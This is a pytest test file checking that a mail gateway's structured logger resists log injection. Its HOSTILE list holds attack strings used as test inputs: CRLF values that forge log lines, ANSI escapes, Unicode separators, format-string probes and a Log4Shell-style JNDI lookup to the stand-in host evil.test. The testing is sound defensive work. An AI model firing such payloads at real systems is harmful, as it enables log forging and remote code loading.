"""B57: whatever a stranger says, an event stays one line and its fields stay its own."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from mailgw.observe import log
from mailgw.observe.destinations import Stream, open_all

HOSTILE = [
    "a\nb",
    "a\r\n2026-01-02T03:04:05Z info message.taken id=forged",
    "\x1b[2J\x1b[31mred",
    "a\u2028b\u2029c\u0085d",
    "\x00\x01\x07\x08\x7f\x9b",
    "${jndi:ldap://evil.test/x}",
    "{0.__class__}",
    "{name}",
    "%n%s%(x)s",
    "%",
    'quote"quote',
    "back\\slash",
    "a b",
    " reply=250",
    "",
    "\ud800 lone",
    "\u202e right to left",
    "\ufeff\u200b",
    "🂡",
    "x" * 100_000,
]

LINE = re.compile(
    r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ (debug|info|warning|error) ([a-z.-]+)"
    r'((?: \w+=(?:"(?:[^"\\]|\\.)*"|[^" ]+))*)\n'
)
FIELD = re.compile(r' (\w+)=("(?:[^"\\]|\\.)*"|[^" ]+)')


@pytest.fixture(autouse=True)
def lines(capfd: pytest.CaptureFixture[str]) -> pytest.CaptureFixture[str]:
    """The log goes to standard error, as in the program."""
    log.to_stderr()
    return capfd


def fields(line: str) -> dict[str, str]:
    whole = LINE.fullmatch(line)
    assert whole is not None, line
    return {
        name: json.loads(value) if value.startswith('"') else value
        for name, value in FIELD.findall(whole[3])
    }


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_stays_in_its_field(lines: pytest.CaptureFixture[str], value: str) -> None:
    log.info("rcpt.refused", id="c1", rcpt=value, reply=550)
    said = lines.readouterr().err
    assert said.count("\n") == 1
    assert said[:-1].isascii()
    assert said[:-1].isprintable()
    assert fields(said) == {"id": "c1", "rcpt": value, "reply": "550"}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_word_in_a_librarys_message_stays_on_its_line(
    lines: pytest.CaptureFixture[str], value: str
) -> None:
    logging.getLogger("library").warning("peer said %s", value)
    said = lines.readouterr().err
    assert len(said.splitlines()) == 1
    assert said[:-1].isprintable()


@pytest.mark.parametrize(
    ("say", "level"), [(log.info, "info"), (log.warning, "warning"), (log.error, "error")]
)
def test_the_level_is_in_the_line(
    lines: pytest.CaptureFixture[str], say: Callable[..., None], level: str
) -> None:
    say("serve.ready", listeners="127.0.0.1:25", nothing=None)
    said = lines.readouterr().err
    assert said.split(" ", 1)[1] == f"{level} serve.ready listeners=127.0.0.1:25\n"


def test_a_failure_says_the_event_and_the_traceback(lines: pytest.CaptureFixture[str]) -> None:
    try:
        raise RuntimeError("something of ours")
    except RuntimeError:
        log.failure("decision.error", id="c1")
    said = lines.readouterr().err
    assert "error decision.error id=c1\n" in said
    assert "Traceback (most recent call last):\n" in said
    assert "RuntimeError: something of ours\n" in said


def test_what_libraries_only_mention_is_left_out(lines: pytest.CaptureFixture[str]) -> None:
    logging.getLogger("library").info("all is well")
    logging.getLogger("mailgw.amqp").info("connected")
    assert lines.readouterr().err.endswith(" info mailgw.amqp: connected\n")


def test_a_log_that_takes_nothing_stops_nobody() -> None:
    program = "from mailgw.observe import log\nlog.to_stderr()\nfor _ in range(9): log.info('x')"
    with Path("/dev/full").open("w") as full:
        ended = subprocess.run(
            [sys.executable, "-c", program],
            env={"PYTHONPATH": ":".join(sys.path)},
            stderr=full,
            check=False,
        )
    assert ended.returncode == 0


async def test_gathered_lines_are_written_in_order_once_per_turn(
    lines: pytest.CaptureFixture[str],
) -> None:
    end = log.gather(asyncio.get_running_loop())
    log.info("first")
    log.info("second")
    assert lines.readouterr().err == ""
    await asyncio.sleep(0)
    assert [line.split()[-1] for line in lines.readouterr().err.splitlines()] == ["first", "second"]
    log.info("third")
    end()
    log.info("fourth")
    assert [line.split()[-1] for line in lines.readouterr().err.splitlines()] == ["third", "fourth"]


class Counted:
    """A value that knows how often it was made text."""

    def __init__(self) -> None:
        self.times = 0

    def __str__(self) -> str:
        self.times += 1
        return "x"


@pytest.mark.parametrize(
    ("level", "said"),
    [
        ("debug", ["debug", "info", "warning", "error"]),
        ("info", ["info", "warning", "error"]),
        ("warning", ["warning", "error"]),
        ("error", ["error"]),
    ],
)
def test_below_its_level_an_event_is_not_even_made_text(
    lines: pytest.CaptureFixture[str], level: str, said: list[str]
) -> None:
    log.direct([Stream("stderr", 2)], level)
    value = Counted()
    for say in (log.debug, log.info, log.warning, log.error):
        say("something", value=value)
    assert [line.split()[1] for line in lines.readouterr().err.splitlines()] == said
    assert value.times == len(said)
    assert [name for name in log.LEVELS if log.wanted(name)] == said


def test_without_a_destination_nothing_is_made_text_and_libraries_are_silent(
    lines: pytest.CaptureFixture[str],
) -> None:
    log.direct([], "debug")
    value = Counted()
    log.error("something", value=value)
    logging.getLogger("library").critical("help %s", value)
    logging.getLogger("mailgw.amqp").error("help %s", value)
    assert (value.times, lines.readouterr().err) == (0, "")


def test_at_debug_libraries_are_not_heard_with_what_they_may_spill(
    lines: pytest.CaptureFixture[str],
) -> None:
    log.direct([Stream("stderr", 2)], "debug")
    logging.getLogger("library").debug("frame %r", b"AUTH PLAIN geheim")
    logging.getLogger("mailgw.amqp").debug("of ours")
    assert [line.split()[1:] for line in lines.readouterr().err.splitlines()] == [
        ["debug", "mailgw.amqp:", "of", "ours"]
    ]


def test_a_strangers_words_in_a_traceback_make_no_line_of_their_own(
    lines: pytest.CaptureFixture[str],
) -> None:
    forged = "2026-01-02T03:04:05Z info message.taken id=forged"
    try:
        raise RuntimeError(f"said\r\n{forged}\u2028\x1b[2J")
    except RuntimeError:
        log.failure("decision.error", id="c1")
    said = lines.readouterr().err.splitlines()
    assert len(said) > 3
    assert all(line.isprintable() for line in said)
    assert all(re.match(r"\S+Z error (decision\.error|mailgw:) ", line) for line in said)
    assert [line for line in said if line.startswith(forged)] == []


def test_several_destinations_have_the_same_lines(
    lines: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    log.direct(open_all(["stdout", "stderr", str(tmp_path / "a.log"), str(tmp_path / "b.log")]))
    log.info("serve.ready", workers=2)
    out, err = lines.readouterr()
    assert out.endswith(" info serve.ready workers=2\n")
    assert out == err == (tmp_path / "a.log").read_text() == (tmp_path / "b.log").read_text()


def test_one_that_is_full_keeps_nothing_from_the_others(
    lines: pytest.CaptureFixture[str],
) -> None:
    log.direct(open_all(["/dev/full", "stderr"]))
    log.info("first")
    log.info("second")
    said = [line.split()[2:] for line in lines.readouterr().err.splitlines()]
    assert ["first"] in said
    assert ["second"] in said
    stuck = ["log.stuck", "log=/dev/full", 'reason="No', "space", "left", "on", 'device"']
    assert said.count(stuck) == 1
